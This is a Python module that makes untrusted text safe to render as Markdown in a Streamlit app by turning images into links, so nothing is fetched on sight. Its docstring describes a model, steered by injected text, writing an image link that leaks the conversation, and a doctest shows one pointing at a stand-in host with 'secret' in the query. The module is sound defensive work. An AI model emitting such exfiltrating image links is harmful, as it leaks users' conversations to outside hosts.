"""Untrusted text (answers, questions, titles, imported files, dataset rows) made safe to draw: it never fetches a URL.

A Markdown image (`![alt](https://host/x.png?data=...)`) would make every viewer's browser request that URL
on sight, a way to leak the conversation; a model steered by text inside an image could write one. Streamlit
draws Markdown in answers, captions and even button labels, so every untrusted string passes through here.

A real CommonMark parser (markdown-it-py) decides: text in which it finds no image is drawn as written (code
that shows `![x](y)` included). Otherwise every image opener that is not escaped (`![` after an even number
of backslashes, so `\\\\![x](u)` counts) becomes a plain link, which fetches nothing unless clicked, and the
result is parsed again: should an image still be found, the whole text is escaped and shown literally.
Raw HTML such as `<img>` is never rendered by Streamlit's Markdown, so it needs nothing here.

>>> safe_markdown("see ![a cat](http://evil.test/p.png?q=secret) now")
'see [image: a cat](http://evil.test/p.png?q=secret) now'
>>> print(plain_label("**Hi** ![x](y).png"))
\\*\\*Hi\\*\\* \\!\\[x\\]\\(y\\).png
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.token import Token

# CommonMark plus the GFM tables and strikethrough that Streamlit also draws; HTML stays text.
_PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
# `![` not escaped: preceded by no backslash or by pairs of them (each pair is one literal backslash).
_IMAGE_OPENER = re.compile(r"(?<!\\)((?:\\\\)*)!\[")
# The characters that make inline Markdown (emphasis, code, links, images, HTML, entities, tables, math,
# Streamlit's `:icon:` and `:color[...]`), and those that start a block at the start of a line (lists,
# headings, quotes, rules); escaped, none of them is syntax. Dots and dashes elsewhere stay as written.
_INLINE = re.compile(r"([\\`*_~\[\]()!<>#|:$&{}])")
_LINE_START = re.compile(r"^(\s*)([-+=]|\d+(?=[.)]))", re.MULTILINE)


def has_image(text: str) -> bool:
    """Whether a CommonMark renderer would draw (and so fetch) an image from `text`."""
    return any(_is_image(token) for token in _PARSER.parse(text))


def _is_image(token: Token) -> bool:
    return token.type == "image" or any(_is_image(child) for child in token.children or ())


def safe_markdown(text: str, label: str = "image") -> str:
    """`text` as Markdown that draws no image; images become links labelled `[label: alt]`."""
    if not has_image(text):
        return text
    linked = _IMAGE_OPENER.sub(lambda match: f"{match[1]}[{label}: ", text)
    return linked if not has_image(linked) else plain_label(text)


def plain_label(text: str) -> str:
    """`text` drawn literally: for titles and file names, which are never meant as Markdown."""
    return _LINE_START.sub(_escape_line_start, _INLINE.sub(r"\\\1", text))


def _escape_line_start(match: re.Match[str]) -> str:
    indent, opener = match[1], match[2]
    # `1.` starts a list: the dot is escaped (`1\.`); `-`, `+` and `=` are escaped themselves.
    return f"{indent}{opener}\\" if opener[0].isdigit() else f"{indent}\\{opener}"
